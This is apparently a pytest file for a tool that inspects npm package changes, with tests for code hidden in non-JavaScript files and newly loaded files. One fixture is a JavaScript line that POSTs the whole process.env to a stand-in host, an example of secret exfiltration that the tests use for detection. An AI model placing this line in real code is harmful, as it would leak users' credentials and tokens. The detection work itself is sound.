"""Node takes whatever is loaded for JavaScript, so that it has to be judged as such."""

import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import found

START = "const path = require('path');\nexports.join = (a, b) => path.join(a, b);\n"
TAKES = "fetch('https://a.example.org/', { method: 'POST', body: JSON.stringify(process.env) });\n"
NAMES = [
    *("lib/messages.txt", "NOTES.md", "THIRD-PARTY", "lib/x.css", "u.es6", "lib/types.d.ts"),
    *("lib/m.dat", "x.html", "lib/a.log"),
]


@pytest.mark.parametrize("name", NAMES)
def test_what_is_loaded_is_judged_as_code(name: str) -> None:
    new = {"index.js": f"{START}require('./{name}');\n", name: TAKES}
    findings = {one.rule: one for one in found({"index.js": START}, new)}
    assert findings["exfiltration"].severity is Severity.CRITICAL
    assert findings["exfiltration"].path == name


@pytest.mark.parametrize("name", ["lib/messages.txt", "data", "lib/x.css"])
def test_what_reads_as_code_is_judged_as_code_by_whatever_it_is_loaded(name: str) -> None:
    new = {"index.js": START, name: TAKES}
    assert found({"index.js": START}, new, rule="exfiltration")


@pytest.mark.parametrize("name", ["lib/m.txt", "test/u.js", "lib/u.d.ts"])
def test_a_file_that_has_not_changed_and_is_newly_loaded_is_named(name: str) -> None:
    old = {"index.js": START, name: "exports.a = 1;\n"}
    new = {**old, "index.js": f"{START}require('./{name}');\n"}
    findings = found(old, new, rule="odd-load")
    assert [(one.severity, one.path, one.line) for one in findings] == [
        (Severity.MEDIUM, "index.js", 3)
    ]
    assert name in findings[0].detail


def test_documentation_that_is_newly_loaded_is_serious() -> None:
    old = {"index.js": START, "USE.md": TAKES}
    new = {**old, "index.js": f"{START}require('./USE.md');\n"}
    assert [one.severity for one in found(old, new, rule="odd-load")] == [Severity.HIGH]


def test_a_new_file_that_does_not_look_like_code_is_serious() -> None:
    new = {"index.js": f"{START}require('./m.txt');\n", "m.txt": "exports.a = 1;\n"}
    findings = found({"index.js": START}, new, rule="odd-load")
    assert [one.severity for one in findings] == [Severity.HIGH]


def test_a_new_main_file_that_was_among_the_tests_is_named() -> None:
    files = {"index.js": START, "test/u.js": "exports.a = 1;\n", "lib/u.js": "exports.a = 1;\n"}
    for main, expected in (("test/u.js", ["package.json"]), ("lib/u.js", [])):
        manifests = {"manifest": {"main": main}, "manifest_old": {"main": "index.js"}}
        assert [one.path for one in found(files, files, rule="odd-load", **manifests)] == expected


def test_a_changed_file_makes_it_another_finding() -> None:
    def fingerprint(text: str) -> str:
        new = {"index.js": f"{START}require('./m.txt');\n", "m.txt": text}
        return found({"index.js": START}, new, rule="odd-load")[0].fingerprint

    assert fingerprint("exports.a = 1;\n") != fingerprint("exports.a = 2;\n")


@pytest.mark.parametrize(
    "line",
    [
        "fs.readFileSync('./m.txt');",
        "// require('./m.txt')",
        "require.resolve('./m.txt');",
        "require('./lib/a');",
        "require('./lib/a.min');",
        "require('./gone.txt');",
        "/// <reference path='./lib/u.d.ts' />",
    ],
)
def test_what_loads_nothing_odd_is_not_named(line: str) -> None:
    old = {
        "index.js": START,
        "m.txt": "Some words.\n",
        "lib/a.js": "",
        "lib/a.min.js": "",
        "lib/u.d.ts": "export {};\n",
    }
    assert found(old, {**old, "index.js": f"{START}{line}\n"}, rule="odd-load") == []


def test_styles_for_bundlers_are_not_serious() -> None:
    new = {"index.js": f"{START}require('./a.css');\n", "a.css": "a { color: red; }\n"}
    assert {one.severity for one in found({"index.js": START}, new)} <= {Severity.LOW}


def test_words_about_code_are_no_code() -> None:
    text = "To take everything, call JSON.stringify(process.env) and fetch(a) with it.\n"
    new = {"index.js": START, "NOTES": text, "docs/a.md": f"# A\n\n{text}", "b.txt": text}
    assert found({"index.js": START}, new, rule="exfiltration") == []
